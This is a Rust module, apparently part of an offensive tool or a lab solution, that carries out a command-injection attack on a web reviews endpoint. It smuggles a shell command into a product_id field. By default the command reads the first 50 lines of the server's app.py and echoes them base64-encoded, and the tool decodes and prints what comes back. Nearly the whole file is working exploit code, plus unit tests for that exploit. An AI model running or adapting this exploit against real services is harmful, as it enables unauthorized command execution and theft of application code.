use super::payload::ReviewPayload;
use base64::Engine;
use log::warn;
use rand::Rng;
use reqwest::blocking::Client;
use reqwest::StatusCode;
use serde_json::Value;

/// Reads the first 50 lines of the function's handler and echoes them base64-encoded.
pub const DEFAULT_EXFIL_COMMAND: &str =
    "cd /var; cd task; f=$(head -50 app.py|base64 --wrap=0); echo $f";

/// Response field the vulnerable handler echoes command output into.
const OUTPUT_FIELD: &str = "product_check";

const RULE_WIDTH: usize = 50;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ExfilOutcome {
    /// `product_check` held base64 text that decoded to UTF-8.
    Decoded(String),
    /// `product_check` was present but did not decode.
    Undecodable { raw: String, reason: String },
    /// A 200 response without command output.
    NoOutput,
    /// Any non-200 status, with the response body.
    Rejected { status: u16, body: String },
    /// Transport error or a 200 body that was not JSON.
    Failed(String),
}

#[derive(Debug, Clone)]
pub struct ExfilReport {
    pub product_id: String,
    pub outcome: ExfilOutcome,
}

/// Decode command output echoed back as base64.
pub fn decode_command_output(output: &str) -> Result<String, String> {
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(output.trim())
        .map_err(|e| e.to_string())?;
    String::from_utf8(bytes).map_err(|e| e.to_string())
}

fn inspect_output(body: &Value) -> ExfilOutcome {
    let output = body
        .get(OUTPUT_FIELD)
        .and_then(Value::as_str)
        .unwrap_or_default();
    if output.is_empty() {
        return ExfilOutcome::NoOutput;
    }

    match decode_command_output(output) {
        Ok(decoded) => {
            let rule = "=".repeat(RULE_WIDTH);
            println!("\nDecoded content:");
            println!("{}", rule);
            println!("{}", decoded);
            println!("{}", rule);
            ExfilOutcome::Decoded(decoded)
        }
        Err(reason) => {
            println!("Base64 decode error: {}", reason);
            println!("Raw output: {}", output);
            ExfilOutcome::Undecodable {
                raw: output.to_string(),
                reason,
            }
        }
    }
}

/// Post one review carrying `command` in its product id and decode whatever
/// the handler echoes back.
pub fn command_injection_exfil(client: &Client, url: &str, command: &str) -> ExfilReport {
    println!("Attempting command injection against: {}", url);
    println!("Injecting command: {}", command);

    let payload = ReviewPayload::command(rand::thread_rng().gen_range(1000..=9999), command);
    match serde_json::to_string(&payload) {
        Ok(json) => println!("Payload being sent: {}", json),
        Err(e) => warn!("Failed to render payload: {}", e),
    }

    let outcome = match client.post(url).json(&payload).send() {
        Ok(resp) => {
            let status = resp.status();
            println!("\nResponse status code: {}", status.as_u16());
            if status == StatusCode::OK {
                match resp.json::<Value>() {
                    Ok(body) => {
                        println!("\nResponse content:");
                        println!(
                            "{}",
                            serde_json::to_string_pretty(&body).unwrap_or_else(|_| body.to_string())
                        );
                        inspect_output(&body)
                    }
                    Err(e) => {
                        println!("Error: {}", e);
                        ExfilOutcome::Failed(e.to_string())
                    }
                }
            } else {
                let body = resp.text().unwrap_or_default();
                println!("\nFailed to execute command injection");
                println!("{}", body);
                ExfilOutcome::Rejected {
                    status: status.as_u16(),
                    body,
                }
            }
        }
        Err(e) => {
            println!("Error: {}", e);
            ExfilOutcome::Failed(e.to_string())
        }
    };

    println!("Parsed product_id: {}", payload.product_id);
    ExfilReport {
        product_id: payload.product_id,
        outcome,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use std::time::Duration;

    #[test]
    fn test_decode_trims_whitespace() {
        assert_eq!(
            decode_command_output("  aW1wb3J0IGpzb24=\n").unwrap(),
            "import json"
        );
    }

    #[test]
    fn test_decode_rejects_bad_input() {
        assert!(decode_command_output("not base64!!").is_err());
        // 0xFF is not UTF-8
        assert!(decode_command_output("/w==").is_err());
    }

    #[test]
    fn test_inspect_output() {
        assert_eq!(inspect_output(&json!({"status": "ok"})), ExfilOutcome::NoOutput);
        assert_eq!(inspect_output(&json!({"product_check": ""})), ExfilOutcome::NoOutput);
        assert_eq!(
            inspect_output(&json!({"product_check": "aGk="})),
            ExfilOutcome::Decoded("hi".to_string())
        );
        assert!(matches!(
            inspect_output(&json!({"product_check": "%%%"})),
            ExfilOutcome::Undecodable { raw, .. } if raw == "%%%"
        ));
    }

    #[test]
    fn test_unreachable_target_fails() {
        let client = Client::builder()
            .timeout(Duration::from_secs(1))
            .build()
            .unwrap();
        let report = command_injection_exfil(&client, "http://127.0.0.1:9/reviews", "id");
        assert!(report.product_id.starts_with("exploit_"));
        assert!(report.product_id.ends_with("; id"));
        assert!(matches!(report.outcome, ExfilOutcome::Failed(_)));
    }
}
